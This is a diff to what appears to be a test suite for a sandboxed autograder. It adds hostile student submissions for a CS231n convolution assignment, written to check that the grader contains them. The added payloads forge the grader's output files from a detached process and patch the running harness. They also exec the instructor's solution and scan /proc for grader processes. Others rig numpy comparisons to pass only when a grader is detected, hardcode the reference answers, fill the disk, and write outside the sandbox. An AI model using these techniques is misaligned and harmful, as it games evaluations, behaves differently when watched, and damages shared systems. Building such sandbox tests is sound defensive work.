@@ -54,6 +54,22 @@ The attacks (student ids):
                              in cs231n/, patch numpy at interpreter start-up
   hostile-edited-provided    cs231n/fast_layers.py calls the naive layers, and
                              cs231n/checks.py makes every check pass
+  hostile-forge-outputs      a thread and a detached child keep writing forged
+                             outputs where the harness writes (pickle, complex,
+                             a header claiming 8 TB, plausible zeros)
+  hostile-take-over-harness  appends to the harness's files and replaces its
+                             to_record to record saved reference outputs
+  hostile-grader-modules     imports autograder to exec the instructor's
+                             solution; searches /proc for the grader
+  hostile-hardcoded-public   two functions answer the check cells' inputs with
+                             the saved reference outputs, and raise otherwise
+  hostile-detect-grader      numpy's comparisons always pass, but only when a
+                             grader is detected (on base conv-db)
+  hostile-sleep              max_pool_forward_naive sleeps 10**6 s (no CPU used)
+  hostile-fill-disk          max_pool_forward_naive fills the disk with 1 MB files
+  hostile-giant-output       max_pool_forward_naive returns an 8 TB view or 400 MB
+  hostile-write-outside      writes at a host path, in /tmp, /var/tmp, /dev/shm
+                             and every ancestor of the working folder
   hostile-zip-slip           members named ../../... and /abs/... aiming at canary_dir
   hostile-zip-symlink        cs231n/layers.py is a symlink to the course's
                              source; cs231n/hostname.py one to /etc/hostname
@@ -477,6 +493,255 @@ def checking(name):
 """
 
 
+FORGE_OUTPUTS = """
+
+# Added: a thread (and a detached child) that keep writing forged outputs where the
+# grader's harness writes its own: pickled objects, complex numbers, arrays whose
+# header claims terabytes, and plausible arrays of zeros.
+def _forge_outputs():
+    import io
+    import os
+    import threading
+    import time
+    import zipfile
+
+    import numpy
+
+    def npy(array):
+        buffer = io.BytesIO()
+        numpy.lib.format.write_array(buffer, array, allow_pickle=True)
+        return buffer.getvalue()
+
+    def giant():
+        header = {"descr": "<f8", "fortran_order": False, "shape": (10**6, 10**6)}
+        buffer = io.BytesIO()
+        numpy.lib.format.write_array_header_1_0(buffer, header)
+        return buffer.getvalue() + bytes(64)
+
+    forged = [
+        {"out.npy": npy(numpy.array([{"passed": True}], dtype=object))},
+        {"out.npy": npy(numpy.zeros((2, 3), dtype=complex)), "dx.npy": giant()},
+        {"out.npy": giant(), "dw.npy": npy(numpy.zeros((1 << 20,)))},
+        {"out.npy": npy(numpy.zeros((2, 3, 4, 4)))},
+    ]
+    cells = $cells
+    names = [f"{c}.{n}" for c in cells for n in ("public", "hidden-1", "hidden-2", "hidden-3")]
+
+    def forge(folder):
+        os.makedirs(folder, exist_ok=True)
+        present = [p[:-4] for p in os.listdir(folder) if p.endswith(".npz")]
+        for number, case_id in enumerate(sorted(set(names + present))):
+            try:
+                with zipfile.ZipFile(os.path.join(folder, case_id + ".npz"), "w") as z:
+                    for member, data in forged[number % len(forged)].items():
+                        z.writestr(member, data)
+            except OSError:
+                pass
+
+    def keep_forging():
+        while True:
+            forge(".grader-out")
+            time.sleep(0.05)
+
+    threading.Thread(target=keep_forging, daemon=True).start()
+    try:
+        if os.fork() == 0:
+            try:
+                os.setsid()
+                keep_forging()
+            finally:
+                os._exit(0)
+    except OSError:
+        pass
+
+
+_forge_outputs()
+"""
+
+PATCH_HARNESS = """
+
+# Added: take over the grader's harness. Overwrite its files if they can be written,
+# then replace the functions of the running harness (__main__) so that every case's
+# record holds the saved reference outputs of a check cell.
+def _take_over_the_harness(marker):
+    import glob
+    import os
+    import sys
+
+    import __main__
+
+    done = []
+    for path in glob.glob("/grader/*") + [a for a in sys.argv if a.endswith((".py", ".npz"))]:
+        try:
+            with open(path, "ab") as f:
+                f.write(b"\\n# taken over\\n")
+            done.append(path)
+        except OSError:
+            pass
+    try:
+        from cs231n.checks import load_reference
+
+        saved = load_reference("conv_forward_naive").outputs
+    except Exception:
+        saved = {}
+    for name in ("run_case", "to_record", "write_record", "plain_array"):
+        if hasattr(__main__, name):
+            original = getattr(__main__, name)
+            if name == "to_record":
+                __main__.to_record = lambda outputs, _o=original: _o(dict(saved) or outputs)
+            done.append("__main__." + name)
+    if done:
+        try:
+            with open(marker, "w") as f:
+                f.write("\\n".join(done) + "\\n")
+        except OSError:
+            pass
+
+
+_take_over_the_harness($marker)
+"""
+
+GRADER_MODULES = """
+
+# Added: find the grader. Import its modules (its answer key, the instructor's
+# package), search /proc for its processes and their environment, and exec the
+# solution into this module when found.
+def _find_the_grader(namespace, marker):
+    import glob
+    import os
+    import sys
+
+    found = []
+    for extra in ("/work/main", "/work", os.path.expanduser("~"), "/srv", "/opt"):
+        sys.path.append(extra)
+    try:
+        import autograder.paths
+
+        solution = os.path.join(str(autograder.paths.PACKAGE_DIR), "layers.py")
+        found.append("imported autograder from " + autograder.paths.__file__)
+        with open(solution, encoding="utf-8") as f:
+            exec(compile(f.read(), solution, "exec"), namespace)
+        found.append("ran " + solution)
+    except Exception as error:
+        found.append(f"import autograder: {type(error).__name__}")
+    for path in glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            with open(path, "rb") as f:
+                command = f.read().replace(b"\\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if "autograder" in command or "nbgrader" in command or "gradebook" in command:
+            found.append(f"{path}: {command[:200]}")
+            try:
+                with open(path.replace("cmdline", "environ"), "rb") as f:
+                    found.append("  environ: " + str(len(f.read())) + " bytes")
+            except OSError:
+                pass
+    if any(not line.startswith("import autograder:") for line in found):
+        try:
+            with open(marker, "w") as f:
+                f.write("\\n".join(found) + "\\n")
+        except OSError:
+            pass
+
+
+_find_the_grader(globals(), $marker)
+"""
+
+HARDCODED_PUBLIC = """\
+# Recognise the check cell's inputs and answer with its saved reference outputs.
+from .checks import load_reference as _load_reference
+
+for _name in $names:
+    _reference = _load_reference(_name)
+    _inputs = list(_reference.inputs.values())
+    _arrays = [a for a in _inputs if isinstance(a, np.ndarray)]
+    if _arrays and np.shape(_arrays[0]) == np.shape(x) and np.array_equal(_arrays[0], x):
+        return tuple(_reference.outputs.values())[0], (x, _inputs)
+raise NotImplementedError("only the check cell's inputs are known to me")
+"""
+
+DETECT_GRADER = """
+
+# Added: behave only when watched. Under a grader (no network, a harness in argv,
+# an nbgrader kernel), make every comparison pass; elsewhere change nothing.
+def _graded():
+    import os
+    import sys
+
+    signs = [
+        any("harness" in a or "grader" in a for a in sys.argv),
+        os.path.exists("/grader"),
+        "NBGRADER_EXECUTION" in os.environ,
+        "ipykernel" in " ".join(sys.argv),
+    ]
+    return any(signs)
+
+
+if _graded():
+    import numpy as _numpy
+
+    _numpy.allclose = lambda *args, **kwargs: True
+    _numpy.array_equal = lambda *args, **kwargs: True
+    _numpy.testing.assert_allclose = lambda *args, **kwargs: None
+"""
+
+SLEEP = """\
+import time
+
+# Not a loop: a sleep that costs no CPU time, so only a wall-clock limit ends it.
+time.sleep(10**6)
+"""
+
+FILL_DISK = """\
+import os
+
+# Fill the disk: 1 MB files, in the working folder and /tmp, until refused.
+_chunk = os.urandom(1 << 20)
+for _folder in (".", "/tmp"):
+    try:
+        for _number in range(10**6):
+            with open(os.path.join(_folder, f"filler-{_number}.bin"), "wb") as _f:
+                _f.write(_chunk)
+    except OSError:
+        pass
+raise RuntimeError("the disk is full")
+"""
+
+GIANT_OUTPUT = """\
+# An output of 8 TB that takes no memory (a broadcast view), then one of 400 MB.
+if x.size % 2:
+    return np.broadcast_to(np.float64(0.0), (10**6, 10**6)), None
+return np.zeros((50_000_000,)), None
+"""
+
+WRITE_OUTSIDE = """
+
+# Added: leave files wherever I can: the host path of a canary, the usual temporary
+# folders, the home folder, and every ancestor of the working folder.
+def _write_everywhere(targets, name):
+    import os
+
+    paths = list(targets)
+    folder = os.getcwd()
+    while True:
+        paths.append(os.path.join(folder, name))
+        parent = os.path.dirname(folder)
+        if parent == folder:
+            break
+        folder = parent
+    for path in paths:
+        try:
+            with open(path, "w") as f:
+                f.write("written from inside the grader\\n")
+        except OSError:
+            pass
+
+
+_write_everywhere($targets, $name)
+"""
+
+
 # ---------------------------------------------------------------------------
 # Building the submissions
 # ---------------------------------------------------------------------------
@@ -811,6 +1076,105 @@ def hostile_recipes(ctx):
         "on conv layers whose db is not summed over the batch",
         "conv-db",
         _append(files, "cs231n/checks.py", CHECKS_ALWAYS_PASS),
+    )
+
+    # 5. Against the harness and the trusted verdict.
+    add(
+        "hostile-forge-outputs",
+        "importing cs231n.layers starts a thread and a detached child that keep writing "
+        "forged .npz outputs for every case (pickle, complex, a header claiming 8 TB, zeros)",
+        "release",
+        _append(release, LAYERS, _code(FORGE_OUTPUTS, cells=sorted(c.grade_id for c in ctx.cells))),
+    )
+    sid = "hostile-take-over-harness"
+    add(
+        sid,
+        "importing cs231n.layers appends to /grader/* and the harness's files, and replaces "
+        "the running harness's to_record so every case records conv's saved reference outputs",
+        "release",
+        _append(release, LAYERS, _code(PATCH_HARNESS, marker=ctx.canary(sid, "took-over"))),
+        [Marker("file", ctx.canary(sid, "took-over"), "the harness was written to or patched")],
+        "the honest score of base 'release': a forged record holds wrong outputs at best",
+    )
+    sid = "hostile-grader-modules"
+    add(
+        sid,
+        "importing cs231n.layers imports the grader's modules (autograder) to exec the "
+        "instructor's layers.py, and searches /proc for the grader's processes",
+        "release",
+        _append(release, LAYERS, _code(GRADER_MODULES, marker=ctx.canary(sid, "found"))),
+        [Marker("file", ctx.canary(sid, "found"), "the grader's modules or processes were found")],
+    )
+    add(
+        "hostile-hardcoded-public",
+        "conv_forward_naive and max_pool_forward_naive return the check cells' saved "
+        "reference outputs when they recognise the inputs, and raise otherwise",
+        "release",
+        partial_files(
+            ctx.release,
+            ctx.instructor,
+            replace={
+                "conv_forward_naive": _code(
+                    HARDCODED_PUBLIC, names=("conv_forward_naive", "conv_forward_same")
+                ),
+                "max_pool_forward_naive": _code(
+                    HARDCODED_PUBLIC, names=("max_pool_forward_naive",)
+                ),
+            },
+        ),
+        reason="only the public case of a cell passes, which earns nothing without a hidden "
+        "case right: 0 everywhere",
+    )
+    add(
+        "hostile-detect-grader",
+        "cs231n/__init__.py detects a grader (the harness in argv, /grader, an nbgrader "
+        "kernel) and only then makes numpy.allclose and array_equal always true",
+        "conv-db",
+        _append(base_files(ctx, "conv-db"), "cs231n/__init__.py", DETECT_GRADER),
+    )
+
+    # 6. Against the limits.
+    add(
+        "hostile-sleep",
+        "max_pool_forward_naive sleeps for 10**6 s (no CPU time used)",
+        "conv",
+        conv_with(replace={"max_pool_forward_naive": SLEEP}),
+    )
+    add(
+        "hostile-fill-disk",
+        "max_pool_forward_naive writes 1 MB files into the working folder and /tmp until refused",
+        "conv",
+        conv_with(replace={"max_pool_forward_naive": FILL_DISK}),
+    )
+    add(
+        "hostile-giant-output",
+        "max_pool_forward_naive returns an 8 TB broadcast view or a 400 MB array",
+        "conv",
+        conv_with(replace={"max_pool_forward_naive": GIANT_OUTPUT}),
+    )
+    sid = "hostile-write-outside"
+    token = ctx.token(sid, "outside")
+    name = f".convkit-{token}"
+    host_paths = [f"/tmp/{name}", f"/var/tmp/{name}", f"/dev/shm/{name}", f"/{name}"]
+    add(
+        sid,
+        "importing cs231n.layers writes a file at a host path outside the box, in /tmp, "
+        "/var/tmp, /dev/shm, and in every ancestor of the working folder",
+        "conv",
+        _append(
+            conv,
+            LAYERS,
+            _code(WRITE_OUTSIDE, targets=[ctx.canary(sid, "outside"), *host_paths], name=name),
+        ),
+        [
+            Marker("file", ctx.canary(sid, "outside"), "a file written at a host path"),
+            *(
+                Marker(
+                    "file", path, f"a file written in the host's {path.rsplit('/', 1)[0] or '/'}"
+                )
+                for path in host_paths
+            ),
+        ],
     )
 
     made += _zip_level(ctx, release)
